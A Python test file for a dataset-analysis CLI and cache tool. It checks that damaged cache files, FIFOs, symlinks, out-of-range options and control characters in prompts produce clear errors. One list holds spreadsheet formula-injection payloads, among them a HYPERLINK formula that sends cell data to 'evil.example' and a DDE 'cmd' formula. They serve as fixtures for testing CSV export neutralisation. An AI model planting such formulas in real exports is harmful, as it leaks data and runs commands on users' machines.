"""Issue 18, second hostile pass: the cache tool, CLI bounds and outputs, kept as tests.

Each case asserts what a user sees (exit code, no traceback, a message naming the problem and the fix) and
that nothing else is lost. The CLI runs in-process (``core.cli.main``), with the ``pixels`` baseline on a
tiny folder; a FIFO case that used to hang is guarded by a timeout, so it fails instead of hanging.
docs/RELIABILITY.md ("Second hostile pass (issue 18): cache tool, CLI bounds, outputs") lists the cases.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
from test_datasets import make_tree

from core.cli import main as cli_main


def cli(capsys, *argv) -> tuple[int, str, str]:
    """Run ``python -m core ARGV`` in-process: (exit code, stdout, stderr). argparse errors exit 2."""
    try:
        rc = cli_main([str(a) for a in argv])
    except SystemExit as e:
        rc = e.code
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return rc, out, err


# ------------------------------------------------------------------------------------------- the cache


@pytest.fixture(scope="module")
def filled(tmp_path_factory) -> tuple[Path, Path]:
    """A tiny dataset and a cache holding its ``pixels`` features (copied per test: tests damage it)."""
    base = tmp_path_factory.mktemp("filled")
    root = make_tree(base / "ds", {"d0": {"c": 2}, "d1": {"c": 2}})
    assert cli_main(["extract", "--dataset", str(root), "--model", "pixels", "--cache-dir", str(base / "cache"),
                     "--no-progress"]) == 0
    return root, base / "cache"


@pytest.fixture()
def cache(filled, tmp_path) -> tuple[Path, Path]:
    root, src = filled
    shutil.copytree(src, tmp_path / "cache", symlinks=True)
    return root, tmp_path / "cache"


def extract(capsys, root, cache):
    return cli(capsys, "extract", "--dataset", root, "--model", "pixels", "--cache-dir", cache, "--no-progress")


def only(cache: Path, pattern: str) -> Path:
    (p,) = cache.rglob(pattern)
    return p


@pytest.mark.parametrize("text", ["[1, 2]", '"a string"', "7", '{"config": [1], "n_images": {"a": 1}}'])
def test_meta_that_is_json_but_not_an_object_is_damage_not_a_crash(cache, capsys, text):
    root, c = cache
    meta = only(c, "meta.json")
    meta.write_text(text)
    rc, out, _ = cli(capsys, "cache", "list", "--cache-dir", c)
    assert rc == 0 and "1 setting(s)" in out
    rc, out, _ = cli(capsys, "cache", "prune", "--cache-dir", c, "--older-than", "0", "--dry-run")
    assert rc == 0 and "would remove" in out
    rc, out, _ = cli(capsys, "cache", "verify", "--cache-dir", c)
    assert rc == 1 and f"DAMAGED {meta}" in out and "JSON object" in out
    only(c, "c-*.safetensors").unlink()  # extraction then rewrites the meta
    rc, out, _ = extract(capsys, root, c)
    assert rc == 0 and "4 computed" in out
    assert cli(capsys, "cache", "verify", "--cache-dir", c)[0] == 0


@pytest.mark.timeout(60)  # used to block forever in open()
@pytest.mark.parametrize("victim", ["c-*.safetensors", "index.json", "meta.json"])
def test_fifo_in_place_of_a_cache_file_never_blocks_and_verify_names_it(cache, capsys, victim):
    root, c = cache
    p = only(c, victim)
    p.unlink()
    os.mkfifo(p)
    rc, out, _ = cli(capsys, "cache", "verify", "--cache-dir", c)
    assert rc == 1 and f"DAMAGED {p}: a FIFO" in out
    assert cli(capsys, "cache", "list", "--cache-dir", c)[0] == 0
    if victim == "meta.json":
        only(c, "c-*.safetensors").unlink()  # the meta is only rewritten by a process that computes something
    rc, out, _ = extract(capsys, root, c)
    assert rc == 0 and "4 images" in out
    assert p.is_file()  # replaced by the real file
    assert cli(capsys, "cache", "verify", "--cache-dir", c)[0] == 0


def test_prune_never_follows_a_symlinked_prefix_folder_out_of_the_cache(cache, tmp_path, capsys):
    _, c = cache
    outside = tmp_path / "outside" / "0123456789abcdef0123"  # hex-named: looks like a setting
    outside.mkdir(parents=True)
    (outside / "precious.txt").write_text("keep me")
    (c / "features" / "zz").symlink_to(tmp_path / "outside")
    rc, out, _ = cli(capsys, "cache", "prune", "--cache-dir", c, "--older-than", "0")
    assert rc == 0 and "1 setting(s)" in out and "never followed" in out
    assert (outside / "precious.txt").read_text() == "keep me"
    assert not list((c / "features").glob("[0-9a-f][0-9a-f]/*"))  # the real setting is gone


def test_symlinked_setting_folder_is_left_alone_and_prune_finishes(cache, tmp_path, capsys):
    _, c = cache
    real = only(c, "meta.json").parent
    elsewhere = tmp_path / "elsewhere" / ("ab" + "0" * 30)
    elsewhere.mkdir(parents=True)
    (elsewhere / "x.safetensors").write_bytes(b"not yours")
    (c / "features" / "ab").mkdir()
    (c / "features" / "ab" / elsewhere.name).symlink_to(elsewhere)
    rc, out, _ = cli(capsys, "cache", "prune", "--cache-dir", c, "--older-than", "0")
    assert rc == 0 and f"removed {real.name}" in out and "never followed" in out
    assert not real.exists() and (elsewhere / "x.safetensors").read_bytes() == b"not yours"
    rc, out, _ = cli(capsys, "cache", "verify", "--cache-dir", c)
    assert rc == 0 and "never followed" in out


@pytest.mark.parametrize("argv, fragment", [(["--max-size", ""], "like 50GB"),
                                            (["--older-than", "nan"], "number of days >= 0"),
                                            (["--older-than", "inf"], "number of days >= 0")])
def test_prune_options_that_would_silently_do_nothing_are_errors(cache, capsys, argv, fragment):
    _, c = cache
    rc, _, err = cli(capsys, "cache", "prune", "--cache-dir", c, *argv)
    assert rc == 2 and fragment in err
    assert only(c, "meta.json").exists()


def test_non_empty_folder_in_place_of_a_chunk_names_it_and_the_fix(cache, capsys):
    root, c = cache
    chunk = only(c, "c-*.safetensors")
    chunk.unlink()
    chunk.mkdir()
    (chunk / "junk").write_text("j")
    rc, _, err = extract(capsys, root, c)
    assert rc == 2 and str(chunk) in err and "rm -r" in err and "run the same command again" in err
    rc, out, _ = cli(capsys, "cache", "verify", "--cache-dir", c)
    assert rc == 1 and f"DAMAGED {chunk}: a folder" in out
    shutil.rmtree(chunk)
    assert extract(capsys, root, c)[0] == 0


def test_oversized_manifest_is_refused_unread(tmp_path, monkeypatch):
    from core.data import datasets, manifest  # read_manifest lives in core.data.manifest

    root = make_tree(tmp_path / "ds", {"d0": {"c": 1}, "d1": {"c": 1}})
    csv = tmp_path / "ds" / "m.csv"
    csv.write_text("path,domain,class\nd0/c/img_000.png,d0,c\nd1/c/img_000.png,d1,c\n")
    assert len(datasets.read_manifest(csv).records) == 2
    monkeypatch.setattr(manifest, "MAX_MANIFEST_BYTES", 16)
    with pytest.raises(datasets.DatasetError, match="over the 16-byte limit"):
        datasets.read_manifest(csv)
    assert root.exists()


# ----------------------------------------------------------------------------------- CLI bounds


@pytest.fixture(scope="module")
def tiny_ds(tmp_path_factory) -> Path:
    return make_tree(tmp_path_factory.mktemp("tiny") / "ds", {"d0": {"a": 2, "b": 2}, "d1": {"a": 2, "b": 2}})


@pytest.mark.parametrize("cmd", ["filmstrip", "cka", "extract"])
@pytest.mark.parametrize("ts", ["-1,50", "50,1000"])
def test_out_of_range_timesteps_are_refused_alike_by_every_command(tiny_ds, tmp_path, capsys, cmd, ts):
    out = [] if cmd == "extract" else ["--out", tmp_path / "out"]
    rc, _, err = cli(capsys, cmd, "--model", "domainlens-tiny", "--dataset", tiny_ds, f"--timesteps={ts}",
                     "--no-progress", *out)
    bad = ts.split(",")[0 if ts.startswith("-") else 1]
    assert rc == 2 and f"must be in [0, 999] for this scheduler, got {bad}" in err
    assert not (tmp_path / "out").exists()


def test_timestep_count_and_noise_seeds_are_bounded_with_the_cost(tiny_ds, tmp_path, capsys):
    many = ",".join(map(str, range(10_000)))
    for cmd in ("filmstrip", "cka", "extract", "sweep"):
        rc, _, err = cli(capsys, cmd, "--model", "pixels", "--timesteps", many, "--out", tmp_path / "o")
        assert rc == 2 and "number of timesteps must be <= 64, got 10,000" in err and "model pass" in err
    rc, _, err = cli(capsys, "stability", "--model", "domainlens-tiny", "--dataset", tiny_ds, "--noise-seeds",
                     "100000", "--out", tmp_path / "o", "--no-progress")
    assert rc == 2 and "`noise_seeds` must be <= 100, got 100,000" in err and "extraction of every image" in err
    rc, _, err = cli(capsys, "cka", "--model", "domainlens-tiny", "--dataset", tiny_ds, "--max-dim", "-5",
                     "--out", tmp_path / "o", "--no-progress")
    assert rc == 2 and "--max-dim must be 0 (exact) or a number of principal components >= 1, got -5" in err
    assert not (tmp_path / "o").exists()


def test_multi_pass_command_says_its_cost_before_starting(tiny_ds, tmp_path, capsys):
    rc, _, err = cli(capsys, "cka", "--model", "domainlens-tiny", "--dataset", tiny_ds, "--timesteps", "10,50",
                       "--blocks", "mid_block", "--out", tmp_path / "o", "--no-progress")
    said = [ln for ln in err.splitlines() if ln.startswith("cka: ")]  # a line before any work starts: 2 passes
    assert rc == 0 and said and re.search(r"\b2\b", said[0]) and "pass" in said[0] and "model" in said[0], err
    assert (tmp_path / "o" / "cka.csv").exists()


# ---------------------------------------------------------------------------------------- outputs

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3"]


def _raw_cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="") as f:
        return [c for row in csv.reader(f) for c in row]


def test_csv_exports_neutralise_formula_cells_from_a_manifest(tmp_path, capsys):
    from test_datasets import img, write_csv

    base = tmp_path / "evil"
    rows = []
    for k, (dom, cls) in enumerate([(EVIL[0], EVIL[1]), (EVIL[0], EVIL[2]), (EVIL[3], EVIL[1]), (EVIL[3], EVIL[2])]
                                   * 2):
        img(base / f"i{k}.png", color=(k * 30, 255 - k * 30, k * 7))
        rows.append([f"i{k}.png", '"' + dom.replace('"', '""') + '"',
                     '"' + cls.replace('"', '""') + '"'])
    csv_path = write_csv(base / "m.csv", rows)
    out = tmp_path / "out"
    rc, _, err = cli(capsys, "faithfulness", "--dataset", csv_path, "--model", "pixels", "--k", "2",
                     "--out", out, "--no-progress")
    assert rc == 0, err
    cells = _raw_cells(out / "layout.csv")
    assert set(EVIL[:4]) & {c.lstrip("'") for c in cells} == set(EVIL[:4])  # the names are all there, readable
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]  # ... but none starts a formula
    assert "'" + EVIL[0] in cells
    # numbers stay numbers; the app's download goes through the same helper
    import pandas as pd

    from pages._exports import csv_text

    df = pd.DataFrame({"domain": EVIL, "x": [-0.5, 1.0, -2.0, 3.0, 4.0], EVIL[4]: [1, 2, 3, 4, 5]})
    text = csv_text(df)
    assert not [ln for ln in text.splitlines() if ln[:1] in "=+-@"] and "\n'-2+3," in text and ",-0.5," in text
    assert text.splitlines()[0] == "domain,x,'-2+3"


@pytest.mark.parametrize("prompt, code", [("a photo\x1b[2J\x1b[H", "U+001B"), ("two\nlines", "U+000A"),
                                          ("nul\x00", "U+0000"), ("abc\u202edcba", "U+202E"), ("c1\x9b", "U+009B")])
def test_control_characters_in_a_prompt_are_refused_with_the_position(tmp_path, capsys, prompt, code):
    from core.engine.prompts import ExtractionError, PromptSpec

    with pytest.raises(ExtractionError, match=re.escape(code) + ".*remove it"):
        PromptSpec.parse(prompt)
    with pytest.raises(ExtractionError, match=re.escape(code)):
        PromptSpec.parse(None, prompt + " {class}")
    rc, out, err = cli(capsys, "extract", "--model", "pixels", "--dataset", tmp_path / "none", "--prompt", prompt,
                       "--no-progress")
    assert rc == 2 and code in err and "\x1b" not in err + out
    assert PromptSpec.parse(None, "a photo of a {class}, naïve café").mode == "template"  # plain unicode is fine


# ------------------------------------------------------------------------------ tiny datasets, scores


def test_one_class_nmi_is_undefined_and_one_image_per_domain_is_a_clear_error(tmp_path, capsys):
    one_class = make_tree(tmp_path / "onecls", {"d0": {"c": 3}, "d1": {"c": 3}})
    rc, out, err = cli(capsys, "sweep", "--dataset", one_class, "--model", "pixels", "--json", "--no-progress")
    import json

    (row,) = json.loads(out)
    assert rc == 0 and row["class_nmi"] is None and row["domain_nmi"] is not None  # NaN: JSON null, not 0.0
    from core.analysis.scorable import undefined_reason

    assert "undefined" in undefined_reason(1) and undefined_reason(2) is None
    one_each = make_tree(tmp_path / "oneimg", {"d0": {"a": 1}, "d1": {"b": 1}, "d2": {"a": 1}})
    rc, _, err = cli(capsys, "report", "--datasets", one_each, "--models", "pixels", "--noise-seeds", "none",
                     "--out", tmp_path / "r.md", "--no-progress")
    assert rc == 2 and "too few images per domain" in err and "--max-per-domain 2" in err
    assert "Valid values are" not in err


def test_explore_with_two_images_per_domain_shows_layout_scores_and_says_why_no_faithfulness(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    root = make_tree(tmp_path / "tiny", {"d0": {"a": 1, "b": 1}, "d1": {"a": 1, "b": 1}})
    monkeypatch.setenv("DOMAINLENS_DEFAULT_MODEL", "pixels")
    monkeypatch.setenv("DOMAINLENS_MAX_PER_DOMAIN", "2")
    monkeypatch.setenv("DOMAINLENS_DATA_ROOTS", str(tmp_path))
    at = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"), default_timeout=120)
    at.session_state["dataset"] = "Folder or CSV manifest…"
    at.run()
    at.sidebar.text_input(key="dataset_path").input(str(root)).run()
    assert not at.exception and not at.error, [e.value for e in at.exception] + [e.value for e in at.error]
    shown = {m.label: m.value for m in at.metric}
    assert shown["Layout trustworthiness"] == "—" and shown["Domain NMI"].startswith("1.000")
    assert "4 images" in " ".join(c.value for c in at.caption)
